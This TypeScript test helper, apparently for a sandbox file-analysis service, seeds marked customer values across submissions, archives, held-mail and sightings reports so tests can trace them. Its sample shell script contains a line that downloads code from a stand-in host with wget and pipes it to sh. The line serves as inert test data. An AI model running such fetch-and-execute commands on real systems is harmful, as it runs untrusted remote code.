import { randomBytes } from 'node:crypto';
import { vi } from 'vitest';
import type { FakeGuest } from '../../sandbox-runner/machines/fake-machines.ts';
import { system } from '../../platform/caller.ts';
import { allTold, hashOf, quietGuest, send, type Assay } from '../assay.ts';
import { zip } from '../samples/binaries.ts';

/** A value that names somebody, and what it was given as. */
export interface Seed {
  what: string;
  value: string;
}

/** Stands in all values of this process. */
export const mark = randomBytes(8).toString('hex');

const looksUp = /# looks up (\S+)/;

/** A guest in which a script that says so looks up a name, as the network of a real one records it. */
export const lookingUp: FakeGuest = async (script, files) => {
  const answer = await quietGuest(script, files);
  const name = [...files.values()].map((bytes) => looksUp.exec(bytes.toString('latin1'))?.[1]).find(Boolean);
  if (name && script.includes('detonate.sh')) files.set('/run/assay/network.jsonl', Buffer.from(`${JSON.stringify({ kind: 'dns', t: 1, name, type: 1, answer: '10.0.0.1' })}\n`));
  return answer;
};

/** Fifteen values of one customer, each given in one of the ways in which people are named; the sample's hash tells that the search finds what is there. */
export async function seed(assay: Assay): Promise<{ seeds: Seed[]; hash: string }> {
  const seeds: Seed[] = [];
  const secret = (what: string, before: string, after = ''): string => {
    const value = `${before}${mark}${randomBytes(3).toString('hex')}${after}`;
    seeds.push({ what, value });
    return value;
  };
  const { devices: [device] } = await assay.customer();
  const act = async (query: string, input: object) => {
    const { data, errors } = await assay.ask<Record<string, { userErrors: object[] }>>(device!, query, { input });
    if (errors ?? Object.values(data)[0]!.userErrors.length > 0) throw new Error(JSON.stringify({ data, errors }));
    return Object.values(data)[0]!;
  };
  const { database } = assay.platform.subgraphs.find(({ name }) => name === 'samples')!.platform;
  /** Waits until what was submitted is analysed. */
  const analysed = async ({ id }: { id: string }) => {
    const { state, failure_message: failure } = await vi.waitUntil(async () => {
      const [row] = await database.for(system).execute<{ state: string; failure_message: string | null }[]>('select state, failure_message from submission where id = ?', [id]);
      return row && ['ANALYZED', 'FAILED', 'EXPIRED'].includes(row.state) ? row : null;
    }, { timeout: 240_000, interval: 250 });
    if (state !== 'ANALYZED') throw new Error(`${state}: ${failure}`);
  };
  const place = () => ({ path: `/home/${secret('folder', 'person-')}/desk`, process: secret('process', 'browser-'), user: secret('person', 'clerk-') });
  const script = Buffer.from(`#!/bin/sh\n# looks up ${secret('name looked up', 'db7-', '.example')}\nwget -q http://${secret('address in a script', 'intranet-', '.example')}/x | sh\n`);
  const submission = await send(assay, device!, script, {
    fileName: `${secret('file name', 'layoffs-')}.sh`, localScore: null, ...place(), origin: 'MAIL', mail: { senderDomain: secret('sender domain', 'sender-', '.example'), verified: false },
    signer: { name: secret('signer', 'Signer '), certificateSha256: 'c'.repeat(64) },
  });
  await analysed(submission);
  const asked = await send(assay, device!, script, { localScore: null, arguments: [secret('argument', 'word-')], answers: [secret('answer', 'line-')] });
  const archive = zip({ [`${secret('name in an archive', 'bonus-')}.sh`]: '#!/bin/sh\necho hello\n' });
  const packed = await send(assay, device!, archive, { fileName: 'all.zip', category: 'ARCHIVE', localScore: null, archivePassword: secret('archive password', 'opened-by-') });
  await analysed(packed);
  await act('mutation ($input: HeldMessageReportInput!) { heldMessageReport(input: $input) { userErrors { code message } } }', {
    key: `m${Date.now()}`, sender: 'a@b.example', recipients: [secret('recipient', 'clerk-', '@corp.example')], subject: secret('subject', 'about '), size: 10,
    receivedAt: new Date().toISOString(), until: new Date(Date.now() + 60_000).toISOString(), state: 'HELD', parts: [{ submissionId: submission.id }],
  });
  await act('mutation ($input: SightingsReportInput!) { sightingsReport(input: $input) { userErrors { code message } } }', {
    sightings: [{ sha256: hashOf(randomBytes(8)), size: 1, fileName: secret('file met', 'contract-'), origin: 'WEB', category: 'DOCUMENT' }],
  });
  await analysed(asked);
  await allTold(assay);
  return { seeds, hash: hashOf(script) };
}
